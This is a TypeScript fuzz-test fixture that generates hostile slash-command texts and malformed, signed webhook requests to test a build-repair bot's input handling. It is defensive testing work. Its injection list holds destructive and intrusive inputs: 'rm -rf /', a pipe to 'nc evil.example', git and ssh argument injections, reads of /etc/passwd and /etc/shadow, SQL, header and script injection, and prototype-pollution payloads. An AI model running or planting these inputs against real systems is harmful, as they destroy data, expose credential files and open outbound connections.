/**
 * Deterministic hostile inputs for the proof tests: slash-command texts and
 * form bodies, and webhook requests for Jenkins, GitHub and GitLab. A seeded
 * generator, so a failure names a case that can be replayed.
 */
import { signGithubBody } from '../../../src/webhooks/verify-credentials.ts';

export interface Rng {
  int(n: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

/** mulberry32: small, fast, good enough for test data. */
export function createRng(seed: number): Rng {
  let a = seed >>> 0;
  const next = (): number => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    int: (n) => Math.floor(next() * n),
    pick: (items) => items[Math.floor(next() * items.length)] as (typeof items)[number],
    chance: (p) => next() < p,
  };
}

export const INJECTIONS = [
  'agent-01; rm -rf /',
  'agent-01 && reboot',
  'agent-01 | nc evil.example 9',
  '$(reboot)',
  '${IFS}reboot',
  '`id`',
  "'; DROP TABLE incidents; --",
  '../../../../etc/passwd',
  '/etc/shadow',
  '--upload-pack=touch /tmp/pwned',
  '-oProxyCommand=touch /tmp/pwned',
  '--exec=reboot',
  'ext::sh -c touch% /tmp/pwned',
  'file:///etc/passwd',
  'https://evil.example/repo.git',
  'agent-01\nreboot',
  'agent-01\u0000reboot',
  'agent-01\r\nX-Injected: 1',
  '%0d%0aX-Injected:%201',
  '<!channel>',
  '<@U0ADMIN>',
  '<https://evil.example|click>',
  '*bold* _it_ ~x~ `code` ```block```',
  '{{7*7}}',
  '<script>alert(1)</script>',
  'A'.repeat(300),
];

export const UNICODE = [
  '\u202Eagent-01', // right-to-left override
  'agent\u200F-01', // right-to-left mark
  '\u2066diagnose\u2069 payments',
  'аgent-01', // Cyrillic а
  'ａｇｅｎｔ－０１', // full-width
  'agent\u200B-01', // zero-width space
  'e\u0301\u0301\u0301\u0301',
  '🔥🚒 restart 🔥',
  'ß ǅ İ ﬁ',
  '\uFEFFstatus',
  '\u00A0status\u00A0',
  '日本語のコマンド',
  'مرحبا',
  '\uD83D', // lone surrogate
];

const WORDS = [
  'diagnose',
  'probe',
  'modules',
  'hostcheck',
  'envdiff',
  'restart',
  'rebuild',
  'rollback',
  'cache',
  'clear',
  'warm',
  'status',
  'help',
  'explain',
  'incident',
  'open',
  'resolve',
  'note',
  'role',
  'severity',
  '--host',
  '--job',
  '--force',
  '--clean',
  '--json',
  'payments',
  'ledger',
  'agent-01',
  'agent-02',
  'agent-03',
  'payments/main',
  'owner/repo',
  'sev1',
  '#1',
  '-',
  '--',
  '"quoted arg"',
  "'x",
  '“smart”',
];

/** Commands the config accepts: some of them run jobs on the worker. */
export const VALID_COMMANDS = [
  'status',
  'help',
  'hostcheck agent-01',
  'probe agent-01',
  'probe',
  'diagnose payments',
  'diagnose ledger --host agent-01',
  'modules payments --host agent-01',
  'envdiff agent-01 agent-02',
  'restart agent-01',
  'cache clear agent-01',
  'cache warm agent-01 payments',
  'rebuild payments/main',
];

function randomText(rng: Rng, length: number): string {
  let out = '';
  for (let i = 0; i < length; i++) {
    const kind = rng.int(4);
    const cp = kind === 0 ? rng.int(0x20) : kind === 1 ? 0x20 + rng.int(0x5f) : kind === 2 ? 0xa0 + rng.int(0xd000) : 0x10000 + rng.int(0x10000);
    out += String.fromCodePoint(cp);
  }
  return out;
}

/** One slash-command text. */
export function slashText(rng: Rng): string {
  switch (rng.int(9)) {
    case 0:
      return randomText(rng, rng.int(80));
    case 1:
      return `${rng.pick(VALID_COMMANDS)} ${'x'.repeat(3990 + rng.int(400))}`;
    case 2:
      return Array.from({ length: rng.int(8) }, () => rng.pick(WORDS)).join(rng.chance(0.3) ? '  ' : ' ');
    case 3: {
      const cmd = rng.pick(VALID_COMMANDS).split(' ');
      cmd.splice(1 + rng.int(cmd.length), 0, rng.pick(INJECTIONS));
      return cmd.join(' ');
    }
    case 4:
      return `${rng.pick(['diagnose', 'restart', 'hostcheck', 'cache warm agent-01', 'envdiff agent-01', 'probe', 'rebuild', 'incident note'])} ${rng.pick(INJECTIONS)}`;
    case 5:
      return `${rng.pick(['restart', 'hostcheck', 'diagnose', 'status', 'help'])} ${rng.pick(UNICODE)}`;
    case 6:
      return rng.pick([...INJECTIONS, ...UNICODE]);
    case 7:
      return rng.pick(VALID_COMMANDS);
    default:
      return `${rng.pick(VALID_COMMANDS)} ${rng.pick(WORDS)} ${rng.pick(INJECTIONS)}`;
  }
}

const BASE_FIELDS: Record<string, string> = {
  token: 'legacy-verification-token',
  team_id: 'T1',
  team_domain: 'acme',
  channel_id: 'C1',
  channel_name: 'incident-build-failure',
  user_id: 'U1',
  user_name: 'ann',
  command: '/buildfix',
  api_app_id: 'A1',
  is_enterprise_install: 'false',
};

/**
 * A whole form body: mostly a normal slash command with a hostile text, sometimes
 * with other fields of the wrong shape (missing, repeated, huge, injected, numbers
 * where ids go, a foreign response_url).
 */
export function slashBody(rng: Rng, responseUrl: string, seq: number): { body: string; wellFormed: boolean; variant: string } {
  const fields: Array<[string, string]> = Object.entries({ ...BASE_FIELDS, response_url: responseUrl, trigger_id: `${Date.now()}.${seq}.fuzz` });
  const text = slashText(rng);
  if (!rng.chance(0.15)) {
    fields.push(['text', text]);
    return { body: new URLSearchParams(fields).toString(), wellFormed: true, variant: 'text' };
  }
  const set = (k: string, v: string): void => {
    const i = fields.findIndex(([name]) => name === k);
    if (i >= 0) fields[i] = [k, v];
    else fields.push([k, v]);
  };
  const variant = rng.int(8);
  switch (variant) {
    case 0:
      break; // no text field at all
    case 1:
      fields.push(['text', text], ['text', rng.pick(VALID_COMMANDS)]);
      break;
    case 2:
      set('user_id', rng.pick(['', '12345', rng.pick(INJECTIONS), 'U'.repeat(5000), 'W0ADMIN']));
      fields.push(['text', text]);
      break;
    case 3:
      set('channel_id', rng.pick(['', 'C'.repeat(3000), rng.pick(INJECTIONS), 'D0DM']));
      fields.push(['text', text]);
      break;
    case 4:
      set('response_url', rng.pick(['https://evil.example/hook', 'javascript:alert(1)', '', 'http://127.0.0.1:1/x', rng.pick(INJECTIONS)]));
      fields.push(['text', rng.pick(VALID_COMMANDS)]);
      break;
    case 5:
      set('command', rng.pick(['/other', '', '/buildfix '.repeat(50), rng.pick(INJECTIONS)]));
      fields.push(['text', text]);
      break;
    case 6:
      fields.push(['text[]', text], ['text[0]', 'status'], ['payload', '{"type":"block_actions"'], [rng.pick(INJECTIONS), 'x']);
      break;
    default:
      fields.push(['text', JSON.stringify({ text, n: 1, a: [1, 2], o: { deep: true } })]);
  }
  return { body: new URLSearchParams(fields).toString(), wellFormed: false, variant: `fields-${variant}` };
}

// ---------------------------------------------------------------------------
// Webhooks

export type WebhookSource = 'jenkins' | 'github' | 'gitlab';

export interface WebhookSecrets {
  jenkins: string;
  github: string;
  gitlab: string;
}

export interface WebhookCase {
  source: WebhookSource;
  path: string;
  headers: Record<string, string>;
  body: Buffer;
}

function nested(depth: number, open: string, close: string, inner = '1'): string {
  return `${open.repeat(depth)}${inner}${close.repeat(depth)}`;
}

function wrongValue(rng: Rng): unknown {
  return rng.pick<() => unknown>([
    () => null,
    () => rng.int(1e9) - 5e8,
    () => 1e308 * 10,
    () => -0,
    () => true,
    () => [],
    () => [rng.pick(INJECTIONS), 1, null],
    () => ({}),
    () => ({ nested: { deeper: rng.pick(INJECTIONS) } }),
    () => rng.pick(INJECTIONS),
    () => rng.pick(UNICODE),
    () => 'x'.repeat(1000 + rng.int(20_000)),
    () => '',
    () => randomText(rng, 40),
    () => '__proto__',
    () => ({ __proto__: { polluted: true }, constructor: { prototype: { polluted: true } } }),
  ])();
}

/** Replace, delete or retype random fields of a (real-shaped) payload, recursively. */
function mutate(value: unknown, rng: Rng, depth = 0): unknown {
  if (Array.isArray(value)) return rng.chance(0.1) ? wrongValue(rng) : value.map((v) => mutate(v, rng, depth + 1));
  if (value && typeof value === 'object') {
    const out: Record<string, unknown> = {};
    for (const [k, v] of Object.entries(value)) {
      const roll = rng.int(10);
      if (roll === 0) continue;
      out[k] = roll === 1 ? wrongValue(rng) : mutate(v, rng, depth + 1);
    }
    if (rng.chance(0.1)) out[rng.pick(['__proto__', 'constructor', 'status', 'phase', 'conclusion', rng.pick(INJECTIONS)])] = wrongValue(rng);
    return out;
  }
  return rng.chance(0.15) ? wrongValue(rng) : value;
}

export interface WebhookTemplates {
  jenkins: unknown;
  github: unknown;
  gitlab: unknown;
}

function githubEvent(rng: Rng): string {
  return rng.pick(['workflow_run', 'workflow_run', 'check_run', 'ping', 'push', '', 'workflow_run\r\nX: 1', rng.pick(INJECTIONS), 'x'.repeat(500)]);
}

/** One webhook request; most are correctly authenticated so the parser sees them. */
export function webhookCase(rng: Rng, templates: WebhookTemplates, secrets: WebhookSecrets, seq: number): WebhookCase {
  const source = rng.pick<WebhookSource>(['jenkins', 'github', 'gitlab']);
  let body: Buffer;
  const shape = rng.int(10);
  if (shape <= 3) body = Buffer.from(JSON.stringify(mutate(structuredClone(templates[source]), rng)));
  else if (shape === 4) body = Buffer.from(Array.from({ length: rng.int(4096) }, () => rng.int(256)));
  else if (shape === 5) body = Buffer.from(nested(1000 + rng.int(200_000), rng.chance(0.5) ? '[' : '{"a":', rng.chance(0.5) ? ']' : '}'));
  else if (shape === 6) {
    const big = structuredClone(templates[source]) as Record<string, unknown>;
    big[rng.pick(['name', 'build', 'object_attributes', 'workflow_run', 'x'])] = 'y'.repeat(rng.chance(0.5) ? 900_000 + rng.int(200_000) : 100_000);
    body = Buffer.from(JSON.stringify(big));
  } else if (shape === 7) body = Buffer.from(JSON.stringify(wrongValue(rng)) ?? 'undefined');
  else if (shape === 8)
    body = Buffer.from(rng.pick(['', 'null', '"string"', '123', '[]', '{}', '{"a":1', '<xml/>', '\u0000\u0000', 'true', '1e999', '{"__proto__":{"x":1}}']));
  else body = Buffer.from(JSON.stringify({ ...(structuredClone(templates[source]) as object), seq }));

  const headers: Record<string, string> = {
    'content-type': rng.pick([
      'application/json',
      'application/json',
      'application/json;charset=UTF-8',
      'text/plain',
      'application/xml',
      'application/x-www-form-urlencoded',
      '',
    ]),
  };
  if (headers['content-type'] === '') delete headers['content-type'];
  const auth = rng.chance(0.85);
  let path = `/webhooks/${source}`;
  if (source === 'github') {
    headers['x-github-event'] = githubEvent(rng);
    headers['x-github-delivery'] = rng.chance(0.9) ? `fuzz-${seq}` : rng.pick(INJECTIONS);
    headers['x-hub-signature-256'] = auth
      ? signGithubBody(secrets.github, body)
      : rng.pick(['', 'sha256=00', signGithubBody('wrong-secret', body), 'sha1=abc']);
  } else if (source === 'gitlab') {
    headers['x-gitlab-event'] = rng.pick(['Pipeline Hook', 'Pipeline Hook', 'Job Hook', 'Push Hook', '', 'x'.repeat(300)]);
    headers['x-gitlab-token'] = auth ? secrets.gitlab : rng.pick(['', 'wrong', `${secrets.gitlab}x`, secrets.gitlab.slice(0, -1)]);
    if (rng.chance(0.5)) headers['idempotency-key'] = `fuzz-${seq}`;
  } else {
    const where = rng.int(3);
    const token = auth ? secrets.jenkins : rng.pick(['', 'wrong', `${secrets.jenkins} `]);
    if (where === 0) path += `?token=${encodeURIComponent(token)}`;
    else if (where === 1) headers['x-buildfix-token'] = token;
    else headers.authorization = `Basic ${Buffer.from(`jenkins:${token}`).toString('base64')}`;
  }
  // What an HTTP client can send at all: visible ASCII, spaces and tabs.
  for (const [k, v] of Object.entries(headers)) headers[k] = v.replace(/[^\t\x20-\x7e]/g, '?');
  return { source, path, headers, body };
}
